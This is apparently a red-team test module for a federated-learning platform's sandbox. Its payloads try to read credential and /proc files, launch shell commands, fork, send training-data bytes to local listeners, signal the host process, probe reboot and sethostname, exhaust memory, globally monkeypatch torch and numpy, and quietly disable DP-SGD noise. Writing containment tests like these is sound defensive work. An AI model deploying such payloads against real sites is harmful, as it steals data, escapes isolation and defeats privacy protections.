"""Attack code the red team submits force-approved to sites whose sandbox is on (tests/redteam/test_contained.py).

Each payload is a site function as a researcher would write it: PySyft ships its source, so imports sit inside,
and everything the attacker knows about the site (paths, the test's listener ports) comes in ``cohort``. A batch
tries many things in one call (a sandbox worker per job costs ~3 s) and then raises with a one-line summary of
what each attempt got: ``REDTEAM-SUMMARY {"name": "blocked PermissionError/13" | "DONE ..."}``. The traceback,
and with it the summary, reaches the site's log only; the researcher reads "the approved code failed".

The model classes are written into the real job template (``researcher.job.FedAvgJob``), so they run inside
fedimg's own training loop, as a model would.
"""

from __future__ import annotations

SUMMARY = "REDTEAM-SUMMARY "


def rt_contained_escapes(train_images, train_labels, val_images, val_labels, weights, rnd, cohort):
    """Files, network, processes, other processes and the machine, from inside a sandbox worker."""
    import ctypes
    import errno
    import json
    import os
    import resource
    import socket
    import subprocess

    import numpy as np
    import numpy.ma.timer_comparison as timer_comparison
    import numpy.typing.tests.test_isfile as test_isfile
    import torch
    import torch.autograd.profiler_legacy as profiler_legacy
    import torch.xpu.streams as xpu_streams

    state, repo, tmp, marker = cohort["state_dir"], cohort["repo"], cohort["tmp"], cohort["marker"]
    outcomes = {}

    def attempt(name, action):
        try:
            value = action()
        except BaseException as exc:  # everything the sandbox answers is an outcome to report
            number = getattr(exc, "errno", None)
            outcomes[name] = f"blocked {type(exc).__name__}" + (f"/{number}" if number else "")
        else:
            outcomes[name] = "DONE " + repr(value)[:40]

    def first_bytes():
        return np.asarray(train_images[:1]).tobytes()[:64]

    def connect_and_send(family, address):
        with socket.socket(family, socket.SOCK_STREAM) as connection:
            connection.settimeout(5)
            connection.connect(address)
            connection.sendall(first_bytes())
            return address

    def no_errno(call):  # a libc call through ctypes: -1 with errno is the kernel's refusal
        result = call()
        if result == -1:
            raise OSError(ctypes.get_errno(), "refused")
        return result

    def capability_probe(number, *arguments):
        # invalid arguments on purpose: the kernel checks the capability first (EPERM), then the arguments
        # (EINVAL), so EINVAL means the call would have been allowed and nothing is changed either way
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        if libc.syscall(number, *arguments) == -1 and ctypes.get_errno() == errno.EPERM:
            raise PermissionError(errno.EPERM, "refused")
        return errno.errorcode.get(ctypes.get_errno(), "allowed")

    site = os.getppid()
    # --- reading files other than the inputs
    attempt("read_etc_hostname", lambda: open("/etc/hostname").read())
    attempt("read_credentials", lambda: test_isfile.Path(state, "admin-credentials.json").read_text())
    attempt("read_audit", lambda: open(os.path.join(state, "audit.jsonl")).read(64))
    attempt("read_raw_data", lambda: os.listdir(cohort["data"]))
    attempt("read_repo", lambda: open(os.path.join(repo, "README.md")).read(64))
    attempt("read_site_environ", lambda: open(f"/proc/{site}/environ", "rb").read(64))
    attempt("torch_os_open", lambda: torch.os.open("/etc/hostname", torch.os.O_RDONLY))
    attempt("np_fromregex", lambda: np.fromregex("/etc/hostname", r"(.+)", [("line", "U64")]))
    # --- writing files outside the worker's folder
    attempt("write_state", lambda: open(os.path.join(state, marker), "w").write("x"))
    attempt("write_tmp", lambda: open(os.path.join(tmp, marker), "w").write("x"))
    attempt("write_repo", lambda: open(os.path.join(repo, marker), "w").write("x"))
    attempt("np_save", lambda: np.save(os.path.join(tmp, marker + ".npy"), train_images[:2]))
    attempt("np_tofile", lambda: np.asarray(train_images[:2]).tofile(os.path.join(state, marker + ".raw")))
    attempt("np_dump", lambda: np.asarray(train_images[:2]).dump(os.path.join(tmp, marker + ".pkl")))
    attempt("np_savez", lambda: np.savez(os.path.join(state, marker + ".npz"), images=train_images[:2]))

    def trace():
        with profiler_legacy.profile() as profile:
            torch.ones(2) + 1
        profile.export_chrome_trace(os.path.join(state, marker + ".trace.json"))

    attempt("profiler_trace", trace)
    # --- processes and programs
    shell = f"touch {os.path.join(tmp, marker + '.shell')}"
    attempt(
        "timeit_shell",
        lambda: timer_comparison.timeit.timeit(f"assert __import__('os').system({shell!r}) == 0", number=1),
    )
    attempt("subprocess", lambda: subprocess.run(["touch", os.path.join(tmp, marker + ".sub")], check=True))
    attempt("fork", lambda: os.fork() or os._exit(0))
    libc = xpu_streams.ctypes.CDLL(None, use_errno=True)  # ctypes re-exported by torch.xpu
    attempt("xpu_ctypes_system", lambda: no_errno(lambda: -1 if libc.system(shell.encode()) else 0))
    attempt("xpu_ctypes_socket", lambda: no_errno(lambda: libc.syscall(41, 2, 1, 0)))  # socket(AF_INET)
    # --- the network: the test's listeners, the site's own port
    attempt("tcp_listener", lambda: connect_and_send(socket.AF_INET, ("127.0.0.1", cohort["tcp_port"])))
    attempt("tcp_site", lambda: connect_and_send(socket.AF_INET, ("127.0.0.1", cohort["site_port"])))
    attempt("unix_abstract", lambda: connect_and_send(socket.AF_UNIX, "\0" + cohort["abstract"]))
    attempt("unix_path", lambda: connect_and_send(socket.AF_UNIX, cohort["unix_path"]))
    attempt("socketpair", lambda: socket.socketpair())
    # --- other processes and the machine
    attempt("signal_site", lambda: os.kill(site, 0))  # signal 0: would a kill reach the site?
    attempt("prlimit_site", lambda: resource.prlimit(site, resource.RLIMIT_CORE, (0, 0)))
    attempt("chmod_credentials", lambda: os.chmod(os.path.join(state, "admin-credentials.json"), 0o644))
    attempt("reboot_probe", lambda: capability_probe(169, 0, 0, 0, 0))  # reboot(2), bad magic
    attempt("sethostname_probe", lambda: capability_probe(170, 0, -1))  # sethostname(2), bad length
    # --- memory
    attempt("memory_bomb", lambda: len(bytearray(6 * 2**30)))
    attempt("torch_memory_bomb", lambda: torch.ones(6 * 2**30, dtype=torch.uint8).sum())
    raise RuntimeError("REDTEAM-SUMMARY " + json.dumps(outcomes, separators=(",", ":")))


def rt_leave_state_behind(train_images, train_labels, val_images, val_labels, weights, rnd):
    """Process-wide changes a later job of someone else would run into, were it the same process."""
    import threading
    import time

    import numpy as np
    import torch
    import torch.nn.functional as F

    torch.nn.modules.module.register_module_forward_hook(lambda module, inputs, output: output * 0 + 7)
    np.seterrcall(lambda kind, flag: None)
    np.seterr(all="call")
    f = F
    f.relu = lambda input, inplace=False: input * 0
    f.cross_entropy = lambda *args, **kwargs: torch.zeros((), requires_grad=True)
    torch.manual_seed(12345)

    def keep_patching():  # a thread left running after the call returns (bounded: it must not eat the machine)
        end = time.monotonic() + 10
        while time.monotonic() < end:
            f.relu = lambda input, inplace=False: input * 0

    threading.Thread(target=keep_patching, daemon=True).start()
    return {"round": int(rnd)}


def rt_context_parameter(train_images, train_labels, val_images, val_labels, weights, rnd, context):
    return {"round": int(rnd), "server": str(context.server)}


LOOP_MODEL = '''\
class Spinner(nn.Module):
    """A linear model whose forward never returns."""

    def __init__(self, channels=1, image_size=16, num_classes=10):
        super().__init__()
        self.head = nn.Linear(channels * image_size * image_size, num_classes)

    def forward(self, x):
        while True:
            x = x + 0
        return self.head(x.flatten(1))
'''

# At a DP-SGD site only the real template runs: the attack is a model inside it. It sends the first bytes of each
# batch to the test's listener, writes them next to the site's policy and switches numpy's normal sampler to
# zeros (the noise), swallowing every error so that the job itself goes on.
LEAKY_MODEL = '''\
class Leaky(nn.Module):
    """A linear model that tries to send and write what it sees, and to switch DP-SGD's noise off."""

    def __init__(self, channels=1, image_size=16, num_classes=10):
        super().__init__()
        self.head = nn.Linear(channels * image_size * image_size, num_classes)
        np.random.normal = lambda loc=0.0, scale=1.0, size=None: np.zeros(size)
        self.tried = False

    def forward(self, x):
        if not self.tried:
            self.tried = True
            try:
                import socket

                with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
                    connection.sendall(x.detach().numpy().tobytes()[:64])
            except Exception:
                pass
            try:
                with open({target!r}, "wb") as handle:
                    handle.write(x.detach().numpy().tobytes()[:64])
            except Exception:
                pass
        return self.head(x.flatten(1))
'''
